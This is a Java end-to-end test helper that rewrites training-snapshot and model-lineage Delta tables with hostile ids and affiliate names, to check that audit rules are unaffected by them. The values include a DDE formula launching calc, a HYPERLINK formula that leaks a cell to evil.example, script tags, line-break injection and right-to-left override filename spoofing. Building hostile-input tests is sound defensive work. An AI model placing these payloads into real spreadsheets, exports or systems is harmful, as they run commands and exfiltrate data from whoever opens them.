package io.trainaudit.e2e;

import static org.apache.spark.sql.functions.col;
import static org.apache.spark.sql.functions.lit;
import static org.apache.spark.sql.functions.when;

import io.trainaudit.tables.ModelTrainings;
import io.trainaudit.tables.TrainingSnapshots;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.spark.sql.Column;
import org.apache.spark.sql.Dataset;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.SparkSession;

/**
 * Rewrites a generated training_snapshots table so that its snapshot ids and affiliate names carry
 * what an attacker would put there: spreadsheet formulas, quotes, commas, line breaks, markup,
 * right-to-left overrides and non-Latin scripts, and model_trainings with them. The rules judge the
 * rows exactly as before.
 */
final class HostileData {
  /** The affiliate every non-internal row is shared with after the rewrite. */
  static final String AFFILIATE = "=cmd|' /C calc'!A0, \"Parent Co\"\n<script>alert('x')</script> \u202Egnp.exe";

  private HostileData() {}

  /** The hostile id given to the snapshot of sorted position {@code index}. */
  static String snapshotId(String id, int index) {
    return switch (index % 6) {
      case 0 -> "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"" + id + "\")";
      case 1 -> "+" + id + ",\"quoted\"\r\nsecond line";
      case 2 -> "-" + id + " <script>alert(1)</script> & <b>";
      case 3 -> "@" + id + " \u202Eevil\u202C \u200F\u0645\u0631\u062D\u0628\u0627 \u6570\u636E \u03A9\u03BC\u03AD\u03B3\u03B1";
      case 4 -> "\t" + id;
      default -> "\r" + id;
    };
  }

  /** Rewrites the table in place; returns the hostile id of each original snapshot id. */
  static Map<String, String> apply(SparkSession spark, Path dataDir, String internalRecipient) {
    String path = dataDir.resolve("training_snapshots").toString();
    Dataset<Row> rows = spark.read().format("delta").load(path);
    List<String> ids = rows.select(TrainingSnapshots.SNAPSHOT_ID).where(col(TrainingSnapshots.SNAPSHOT_ID).isNotNull())
        .distinct().orderBy(TrainingSnapshots.SNAPSHOT_ID).collectAsList().stream().map(r -> r.getString(0)).toList();
    Map<String, String> hostile = new LinkedHashMap<>();
    Column snapshot = col(TrainingSnapshots.SNAPSHOT_ID);
    Column renamed = null;
    for (int i = 0; i < ids.size(); i++) {
      hostile.put(ids.get(i), snapshotId(ids.get(i), i));
      Column branch = snapshot.equalTo(lit(ids.get(i)));
      renamed = renamed == null ? when(branch, lit(hostile.get(ids.get(i))))
          : renamed.when(branch, lit(hostile.get(ids.get(i))));
    }
    Column recipient = col(TrainingSnapshots.RECIPIENT);
    Dataset<Row> rewritten = rows
        .withColumn(TrainingSnapshots.SNAPSHOT_ID, renamed.otherwise(snapshot))
        .withColumn(TrainingSnapshots.RECIPIENT, when(recipient.isNull().or(recipient.equalTo(lit(internalRecipient))),
            recipient).otherwise(lit(AFFILIATE)))
        .localCheckpoint();
    rewritten.write().format("delta").mode("overwrite").save(path);
    // The model lineage names the same snapshots: its ids turn hostile with them.
    java.nio.file.Path lineage = dataDir.resolve("model_trainings");
    if (java.nio.file.Files.isDirectory(lineage)) {
      Column trained = col(ModelTrainings.SNAPSHOT_ID);
      Column renamedLineage = null;
      for (Map.Entry<String, String> e : hostile.entrySet()) {
        Column branch = trained.equalTo(lit(e.getKey()));
        renamedLineage = renamedLineage == null ? when(branch, lit(e.getValue()))
            : renamedLineage.when(branch, lit(e.getValue()));
      }
      spark.read().format("delta").load(lineage.toString())
          .withColumn(ModelTrainings.SNAPSHOT_ID, renamedLineage.otherwise(trained)).localCheckpoint()
          .write().format("delta").mode("overwrite").save(lineage.toString());
    }
    return hostile;
  }
}
